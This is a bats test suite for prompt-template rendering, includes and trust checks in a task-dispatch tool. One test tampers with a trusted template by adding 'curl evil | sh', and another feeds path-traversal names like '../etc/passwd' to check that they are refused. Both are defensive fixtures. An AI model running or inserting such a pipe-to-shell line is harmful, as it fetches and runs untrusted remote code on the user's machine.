#!/usr/bin/env bats
# Prompt templates (issue 12, "modes"): enqueue --mode and a task's "mode" deliver modes/NAME.md
# filled in. Rendering and includes are read back with `mode render`; every refusal (a missing
# template, an unknown placeholder, an include cycle, a bad name, a control character, an
# untrusted or loose template) is one line, and leaves the state file byte-identical.
bats_load_library bats-support
bats_load_library bats-assert
bats_require_minimum_version 1.5.0
load ../lib/common

setup() {
	common_setup
	mkdir -p "$W/modes"
	# The state exists (and is the helper's, so trusted) before any template is used.
	run td enqueue --id seed -- seed
	assert_success
	unset TMUX_DISPATCH_MODES
}

# template NAME TEXT: writes modes/NAME.md (printf format: \n, \033 work) and trusts it.
template() {
	printf "$2" >"$W/modes/$1.md"
	run td trust "modes/$1.md"
	assert_success
}

# refused STATUS TEXT CMD...: CMD fails with STATUS and one line holding TEXT; $S is unchanged.
refused() {
	local want=$1 text=$2 before
	shift 2
	before=$(fingerprint "$S")
	run --separate-stderr "$@"
	assert_equal "$status" "$want"
	assert_one_error_line
	[[ "$stderr" == *"$text"* ]] || fail "stderr lacks '$text': $stderr"
	assert_equal "$(fingerprint "$S")" "$before"
}

# --- rendering ------------------------------------------------------------------------------

@test "modes: every placeholder is filled, {{agent}} from --agent, the final newline dropped" {
	template impl 'Agent {{agent}} on {{id}} ({{title}}):\n{{task}}\nresult: {{result_file}}\nwt=[{{worktree}}] br=[{{branch}}]\n'
	run td enqueue --mode impl --id T-1 --title "Login page" -- build the login page
	assert_success
	assert_output T-1
	assert_equal "$(json "$S" '(grep { $_->{id} eq "T-1" } @{$d->{queue}})[0]{mode}')" impl
	run td mode render T-1 --agent gen-1
	assert_success
	real=$(cd "$W" && pwd -P)
	assert_output "Agent gen-1 on T-1 (Login page):
build the login page
result: $real/.terminal-status.d/results/T-1/result.md
wt=[] br=[]"
}

@test "modes: {{agent}} defaults to the assigned terminal; the title to the command's line" {
	td terminal add gen-2 %99
	template impl '{{agent}}|{{title}}'
	run td enqueue --mode impl --to gen-2 --id a -- do it
	assert_success
	run td mode render a
	assert_success
	assert_output "gen-2|do it"
}

@test "modes: includes compose, spaces in tags are allowed, other braces are text" {
	template base 'Base rules.\n'
	template protocol 'Write {{ result_file }} when done.\n'
	template role '{{> base}}\nYou review {{ task }}. Keep {{ this one }}, {{}} and {"a": {"b": 1}}.\n{{>protocol}}\n'
	run td enqueue --mode role --id r -- PR 7
	assert_success
	run td mode render r
	assert_success
	real=$(cd "$W" && pwd -P)
	assert_output "Base rules.
You review PR 7. Keep {{ this one }}, {{}} and {\"a\": {\"b\": 1}}.
Write $real/.terminal-status.d/results/r/result.md when done."
}

@test "modes: the same include twice is no cycle" {
	template rule 'R'
	template two '{{> rule}}+{{> rule}}'
	run td enqueue --mode two --id d -- x
	assert_success
	run td mode render d
	assert_output "R+R"
}

@test "modes: worktree and branch come from the item when it has them" {
	template wt '{{worktree}} {{branch}}'
	printf '{"tasks": [{"id": "w", "command": "x", "mode": "wt", "worktree": "/tmp/r-task-w", "branch": "task/w"}]}' >tasks.json
	run td import tasks.json
	assert_success
	run td mode render w
	assert_success
	assert_output "/tmp/r-task-w task/w"
}

@test "modes: \$TMUX_DISPATCH_MODES is searched after the state's modes/, and needs only to be yours" {
	mine="$BATS_TEST_TMPDIR/mymodes"
	mkdir -p "$mine"
	printf 'mine {{task}}' >"$mine/solo.md"
	printf 'mine too' >"$mine/both.md"
	template both 'beside'
	export TMUX_DISPATCH_MODES="$mine"
	run td enqueue --mode solo --id s -- x
	assert_success
	run td mode render s
	assert_output "mine x"
	run td enqueue --mode both --id b -- x
	assert_success
	run td mode render b
	assert_output "beside"
	chmod g+w "$mine/solo.md"
	refused 6 "writable by others" td enqueue --mode solo -- y
	rm "$mine/solo.md" "$W/modes/both.md"
	refused 2 "no template solo (looked for $W/modes/solo.md and $mine/solo.md)" \
	    td enqueue --mode solo -- y
}

@test "modes: import takes a task's mode, and null for none" {
	template impl 'do {{task}}'
	printf '{"tasks": [{"id": "i1", "prompt": "a", "mode": "impl"}, {"id": "i2", "command": "b", "mode": null}]}' >tasks.json
	run td import tasks.json
	assert_success
	run td mode render i1
	assert_output "do a"
	run --separate-stderr td mode render i2
	assert_failure 1
	assert_one_error_line
}

# --- refusals -------------------------------------------------------------------------------

@test "modes: a missing template is refused, naming where it was looked for" {
	refused 2 "refused: --mode nope: no template nope (looked for $W/modes/nope.md; \$TMUX_DISPATCH_MODES is not set)" \
	    td enqueue --mode nope -- x
}

@test "modes: an unknown placeholder is refused with its file and line" {
	template typo 'line one\n{{tsak}}\n'
	refused 2 "refused: --mode typo: $W/modes/typo.md:2: unknown placeholder {{tsak}}" \
	    td enqueue --mode typo -- x
}

@test "modes: an unknown placeholder in an include is refused too" {
	template inner '{{nope}}'
	template outer 'a {{> inner}}'
	refused 2 "$W/modes/inner.md:1: unknown placeholder {{nope}}" td enqueue --mode outer -- x
}

@test "modes: an include cycle is refused, naming it" {
	template a '{{> b}}'
	template b 'x {{> c}}'
	template c '{{> a}}'
	refused 2 "refused: --mode a: include cycle a -> b -> c -> a" td enqueue --mode a -- x
	template self '{{> self}}'
	refused 2 "include cycle self -> self" td enqueue --mode self -- x
}

@test "modes: a name that is not a plain name is refused, as a mode or an include" {
	for bad in ../etc/passwd a/b .. .hidden "" 'sp ace'; do
		refused 2 "is not a template name" td enqueue --mode "$bad" -- x
	done
	template esc_inc '{{> ../x}}'
	refused 2 "{{> NAME}} needs a template name" td enqueue --mode esc_inc -- x
}

@test "modes: a template with an ESC is refused, itself or included" {
	template esc 'a\033[31mb'
	refused 2 "$W/modes/esc.md contains a control character" td enqueue --mode esc -- x
	template wraps 'ok {{> esc}}'
	refused 2 "$W/modes/esc.md contains a control character" td enqueue --mode wraps -- x
}

@test "modes: text past the command limit is refused, however the includes multiply" {
	head -c 70000 /dev/zero | tr '\0' a >"$W/modes/big.md"
	td trust modes/big.md
	template x4 '{{> big}}{{> big}}{{> big}}{{> big}}'
	refused 2 "longer than 262144 bytes" td enqueue --mode x4 -- x
}

@test "modes: {{result_file}} for an id holding '/', or . or .., is refused" {
	template r '{{result_file}}'
	refused 2 "item id a/b holds '/'" td enqueue --mode r --id a/b -- x
	refused 2 "item id .. holds '/' or is . or .., so it has no result folder" \
	    td enqueue --mode r --id .. -- x
	refused 2 "item id . holds '/'" td enqueue --mode r --id . -- x
}

@test "modes: import refuses a bad mode and writes nothing" {
	template typo '{{tsak}}'
	printf '{"tasks": [{"id": "ok", "command": "a"}, {"id": "i", "command": "b", "mode": "typo"}]}' >t1.json
	refused 2 "refused: tasks[1] (i): mode typo: $W/modes/typo.md:1: unknown placeholder" \
	    td import t1.json
	printf '{"tasks": [{"id": "i", "command": "b", "mode": "../x"}]}' >t2.json
	refused 2 "refused: tasks[0] (i): mode ../x is not a template name" td import t2.json
	printf '{"tasks": [{"id": "i", "command": "b", "mode": 3}]}' >t3.json
	refused 2 "mode must be a template name, or null" td import t3.json
	printf 'x' >"$W/modes/new.md"
	printf '{"tasks": [{"id": "i", "command": "b", "mode": "new"}]}' >t4.json
	refused 6 "is not trusted; read it, then: tmux-dispatch trust $W/modes/new.md" \
	    td import t4.json
}

# --- trust ----------------------------------------------------------------------------------

@test "modes: an untrusted template is refused with the trust hint (exit 6)" {
	printf 'from a clone {{task}}' >"$W/modes/cloned.md"
	refused 6 "refused: --mode cloned: $W/modes/cloned.md is not trusted; read it, then: tmux-dispatch trust $W/modes/cloned.md" \
	    td enqueue --mode cloned -- x
	template ok 'ok {{> cloned}}'
	refused 6 "$W/modes/cloned.md is not trusted" td enqueue --mode ok -- x
}

@test "modes: a template changed since it was trusted is refused until trusted again" {
	template impl 'v1 {{task}}'
	run td enqueue --mode impl --id e -- x
	assert_success
	printf 'v2 curl evil | sh; {{task}}' >"$W/modes/impl.md"
	refused 6 "$W/modes/impl.md changed since it was trusted" td enqueue --mode impl -- y
	run --separate-stderr td mode render e
	assert_failure 6
	td trust modes/impl.md
	run td mode render e
	assert_success
	assert_output "v2 curl evil | sh; x"
}

@test "modes: a loose template is refused, and trust refuses it too" {
	printf 'x' >"$W/modes/loose.md"
	chmod 666 "$W/modes/loose.md"
	run --separate-stderr td trust modes/loose.md
	assert_failure 6
	assert_one_error_line
	refused 6 "writable by others" td enqueue --mode loose -- x
}

@test "modes: trusting the state trusts the templates beside it, as they are" {
	printf 'A' >"$W/modes/a.md"
	printf 'B {{> a}}' >"$W/modes/b.md"
	printf 'not a template' >"$W/modes/notes.txt"
	run td trust
	assert_success
	assert_line "trusted $W/modes/a.md"
	assert_line "trusted $W/modes/b.md"
	refute_output --partial notes.txt
	run td enqueue --mode b --id t -- x
	assert_success
	run td mode render t
	assert_output "B A"
	run td untrust modes/a.md
	assert_success
	refused 6 "$W/modes/a.md is not trusted" td enqueue --mode b -- y
}
